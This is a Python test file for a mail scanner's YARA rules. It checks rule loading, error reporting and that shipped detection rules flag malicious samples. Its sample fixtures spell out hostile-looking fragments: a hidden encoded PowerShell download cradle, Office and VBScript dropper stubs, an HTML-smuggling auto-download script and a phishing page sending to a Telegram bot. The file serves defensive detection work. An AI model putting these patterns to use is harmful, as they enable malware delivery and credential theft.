"""YARA rules: what is wrong is told with file, line and column; what is right becomes symbols, and the shipped ones match their kind."""

from __future__ import annotations

import base64
import struct
from collections.abc import Mapping
from pathlib import Path

import pytest

from mailguard.checks.yara_file import YaraFiles, load_yara
from mailguard.core.errors import ConfigError
from mailguard.sandbox.unpack.tree import walk
from mailguard.sandbox.unpack.work import File, Work
from mailguard.sandbox.unpack.yara import OCTETS, Rules

SHIPPED = Path(__file__).parents[3] / "policies" / "yara"
GOOD = 'rule Good { meta: description = "good" score = 1.5 strings: $a = "needle" condition: $a }'


def look(compiled: bytes, raw: bytes) -> dict[str, str]:
    """What the rules report of a file: symbol to evidence."""
    rules = Rules()
    rules.prepare(compiled)
    file = File("file", raw, "application/octet-stream")
    rules.look([*walk(file)], Work(file))
    return dict(file.found)


def problems_of(directory: Path) -> list[str]:
    with pytest.raises(ConfigError) as caught:
        load_yara(directory)
    return [str(problem) for problem in caught.value.problems]


def test_a_rule_becomes_a_symbol_with_its_points(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(GOOD + "\nprivate rule Part { condition: filesize > 1 }")
    rules = load_yara(tmp_path)
    assert rules.symbols == {"YARA_GOOD": (1.5, "good")}
    assert look(rules.compiled, b"a needle here") == {"YARA_GOOD": "$a"}
    assert look(rules.compiled, b"nothing") == {}
    assert look(rules.compiled, b"") == {}


def test_no_rules_are_none(tmp_path: Path) -> None:
    assert len(load_yara(tmp_path / "nowhere")) == 0
    assert look(b"", b"needle") == {}


@pytest.mark.parametrize(
    ("text", "problem"),
    [
        ("rule A {\n  condition: tru\n}", "own.yar:2:14: unknown identifier `tru`"),
        ('include "/etc/passwd"', "own.yar:1:1: include statements not allowed"),
        ('import "nothing"', "own.yar:1:1: unknown module `nothing`"),
        ("rule", "own.yar:1:5: syntax error"),
        ("\x00\x01", "own.yar:1:1: syntax error"),
        (GOOD + "\n" + GOOD, "own.yar:2:6: duplicate rule `Good`"),
        (GOOD.replace('"needle"', "/x+/"), "own.yar:1:61: slow pattern"),
        (GOOD.replace("1.5", "6"), "own.yar:1:6: rule Good needs `score"),
        (GOOD.replace("1.5", "true"), "own.yar:1:6: rule Good needs `score"),
        (GOOD.replace('description = "good"', ""), "own.yar:1:6: rule Good needs `description"),
        (GOOD.replace("$a }", "$a or true }"), "own.yar:1:6: rule Good matches an empty file"),
        ("\n " + GOOD.replace("Good", "Q" * 60), "has a name of more than 59 letters"),
        (GOOD + "\n" + GOOD.replace("Good", "GOOD"), "there is a rule with the symbol YARA_GOOD already"),
        ("rule A { condition: " + "(" * 50_000 + "}", "own.yar:1:"),
    ],
)
def test_what_is_wrong_is_told_with_its_place(text: str, problem: str, tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(text)
    assert any(problem in one for one in problems_of(tmp_path)), problems_of(tmp_path)


def test_every_file_s_problems_are_told_at_once(tmp_path: Path) -> None:
    (tmp_path / "a.yar").write_text("rule A { condition: x }\nrule B { condition: y }")
    (tmp_path / "b.yara").write_bytes(b"rule \xff")
    said = problems_of(tmp_path)
    assert [one.split(": ")[0] for one in said] == ["b.yara", "a.yar:1:21", "a.yar:2:21"]


def test_a_broken_file_keeps_the_last_good_rules(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(GOOD)
    files = YaraFiles(tmp_path)
    files.load()
    before = files.current
    (tmp_path / "own.yar").write_text("rule")
    assert [one.where for one in files.reload()] == ["yara/own.yar:1:5"]
    assert files.current is before
    (tmp_path / "own.yar").unlink()
    assert files.changed
    assert files.reload() == ()
    assert len(files.current) == 0


def test_a_file_that_is_too_large_is_told(tmp_path: Path) -> None:
    (tmp_path / "own.yar").write_text(GOOD)
    compiled = load_yara(tmp_path).compiled
    assert look(compiled, b"needle".ljust(OCTETS, b".")) == {"YARA_GOOD": "$a"}
    assert look(compiled, b"needle".ljust(OCTETS + 1, b".")) == {"YARA_UNFINISHED": ""}


def _program() -> bytes:
    return (
        b"MZ".ljust(0x3C, b"\0") + struct.pack("<I", 0x80) + bytes(0x40) + b"PE\0\0" + bytes(0xF4) + b"UPX0" + bytes(40)
    )


def _shortcut(arguments: str) -> bytes:
    return struct.pack("<II", 0x4C, 0x21401) + bytes(70) + arguments.encode("utf-16-le")


_BASE64 = base64.b64encode("IEX (New-Object Net.WebClient)".encode("utf-16-le")).decode()
SMUGGLING = (
    f"<script>var d=atob('{'QUJD' * 600}');var b=new Blob([d]);var a=document.createElement('a');"
    "a.href=URL.createObjectURL(b);a.download='invoice.zip';a.click()</script>"
)
PAGE = "<form><input type='password'></form><script>{}</script>"
SAMPLES: Mapping[str, bytes] = {
    "YARA_PE_PACKED_STUB": _program(),
    "YARA_POWERSHELL_ENCODED": f"cmd /c powershell.exe -nop -w hidden -enc {_BASE64}".encode(),
    "YARA_LNK_LONG_ARGUMENTS": _shortcut(" " * 200 + "/c powershell -c x"),
    "YARA_SCRIPT_DROPPER": b'x=CreateObject("MSXML2.XMLHTTP"):s=CreateObject("ADODB.Stream"):CreateObject("WScript.Shell").Run p',
    "YARA_OFFICE_DROPPER": b'Attribute VB_Name = "M"\nSub AutoOpen()\nCreateObject("WScript.Shell").Run "x"\nEnd Sub',
    "YARA_HTML_SMUGGLING": SMUGGLING.encode(),
    "YARA_PHISHING_KIT_PAGE": PAGE.format("fetch('https://api.telegram.org/bot1:a/sendMessage')").encode(),
    "YARA_PHISHING_KIT_PREFILLED": PAGE.format("u=location.hash;l='https://logo.clearbit.com/'+u").encode(),
}
HONEST = (
    b"MZ" + _program()[2:0x80] + b"PE\0\0" + bytes(0xF4) + b".text" + bytes(40),
    b"Run powershell.exe -File setup.ps1 -Encoding utf8",
    _shortcut(r"C:\Program Files\Editor\editor.exe"),
    b'Attribute VB_Name = "M"\nSub Workbook_Open()\nRange("A1").Value = 1\nEnd Sub',
    b"<script>u=URL.createObjectURL(new Blob(['a,b']));a.download='t.csv';a.click()</script>",
    PAGE.format("fetch('/login')").encode(),
)


@pytest.fixture(scope="module")
def shipped() -> bytes:
    return load_yara(SHIPPED).compiled


def test_every_shipped_rule_has_a_sample() -> None:
    assert set(SAMPLES) == set(load_yara(SHIPPED).symbols)


@pytest.mark.parametrize("symbol", SAMPLES)
def test_a_shipped_rule_matches_its_kind(symbol: str, shipped: bytes) -> None:
    assert symbol in look(shipped, SAMPLES[symbol])


@pytest.mark.parametrize("number", range(len(HONEST)))
def test_no_shipped_rule_matches_honest_kin(number: int, shipped: bytes) -> None:
    assert look(shipped, HONEST[number]) == {}
